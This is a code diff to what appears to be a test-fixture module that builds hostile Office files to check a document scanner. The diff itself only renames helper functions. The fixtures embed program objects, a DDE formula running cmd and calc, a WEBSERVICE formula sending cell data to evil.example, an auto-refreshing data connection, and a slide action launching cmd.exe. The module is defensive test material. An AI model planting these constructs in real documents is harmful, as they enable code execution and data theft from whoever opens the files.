@@ -52,7 +52,7 @@ hostile("ActiveX in docx", has_member("activeX1.xml"))(changed("docx", _active_x
 hostile("a web page as a chunk of docx", has_member("chunk.html"))(changed("docx", _chunk))
 
 
-def _in_sheet(package: Package, rng: Random) -> None:
+def in_sheet(package: Package, rng: Random) -> None:
     package["xl/embeddings/oleObject1.bin"] = compound_file({"\x01Ole10Native": PROGRAM})
     declare_ending(package, "bin", "application/vnd.openxmlformats-officedocument.oleObject")
     identifier = relate(package, "xl/worksheets/sheet1.xml", "oleObject", "../embeddings/oleObject1.bin")
@@ -67,7 +67,7 @@ def _on_slide(package: Package, rng: Random) -> None:
     relate(package, "ppt/slides/slide1.xml", "oleObject", "../embeddings/oleObject1.bin")
 
 
-hostile("a program as an object in xlsx", has_member("oleObject1.bin"))(changed("xlsx", _in_sheet))
+hostile("a program as an object in xlsx", has_member("oleObject1.bin"))(changed("xlsx", in_sheet))
 hostile("a program as an object in pptx", has_member("oleObject1.bin"))(changed("pptx", _on_slide))
 
 SHEETS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
@@ -100,7 +100,7 @@ def _book_link(package: Package, rng: Random) -> None:
     relate(package, part, "externalLinkPath", "file:///\\\\203.0.113.9\\share\\cases.xlsx", external=True)
 
 
-def _connection(package: Package, rng: Random) -> None:
+def connection(package: Package, rng: Random) -> None:
     package["xl/connections.xml"] = (
         b'<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" '
         b'name="c" type="4" refreshOnLoad="1"><webPr url="https://evil.example/q"/></connection></connections>'
@@ -113,7 +113,7 @@ def _connection(package: Package, rng: Random) -> None:
     relate(package, "xl/workbook.xml", "connections", "connections.xml")
 
 
-def _formula(text: str):
+def formula(text: str):
     def change(package: Package, rng: Random) -> None:
         cell = f'<row r="900"><c r="A900"><f>{text}</f><v>0</v></c></row></sheetData>'
         replaced(package, "xl/worksheets/sheet1.xml", "</sheetData>", cell)
@@ -121,7 +121,7 @@ def _formula(text: str):
     return change
 
 
-def _macro_sheet(package: Package, rng: Random) -> None:
+def macro_sheet(package: Package, rng: Random) -> None:
     package["xl/macrosheets/sheet9.xml"] = (
         b'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>'
     )
@@ -141,13 +141,13 @@ def _action(action: str, target: str):
 
 hostile("a DDE link in xlsx", any_part("ddeLink"))(changed("xlsx", _dde))
 hostile("a link to another workbook", any_part("externalBook"))(changed("xlsx", _book_link))
-hostile("a connection to a server in xlsx", has_member("connections.xml"))(changed("xlsx", _connection))
-hostile("a macro sheet in xlsx", has_member("sheet9.xml"))(changed("xlsx", _macro_sheet))
+hostile("a connection to a server in xlsx", has_member("connections.xml"))(changed("xlsx", connection))
+hostile("a macro sheet in xlsx", has_member("sheet9.xml"))(changed("xlsx", macro_sheet))
 hostile("a formula that starts a program", any_part("cmd|"), Outcome.EITHER)(
-    changed("xlsx", _formula("cmd|'/c calc'!A0"))
+    changed("xlsx", formula("cmd|'/c calc'!A0"))
 )
 hostile("a formula that asks a server", any_part("WEBSERVICE"), Outcome.EITHER)(
-    changed("xlsx", _formula("_xlfn.WEBSERVICE(&quot;https://evil.example/&quot;&amp;A1)"))
+    changed("xlsx", formula("_xlfn.WEBSERVICE(&quot;https://evil.example/&quot;&amp;A1)"))
 )
 hostile("a slide that starts a program", any_part("ppaction://program"))(
     changed("pptx", _action("ppaction://program", "file:///C:/Windows/System32/cmd.exe"))
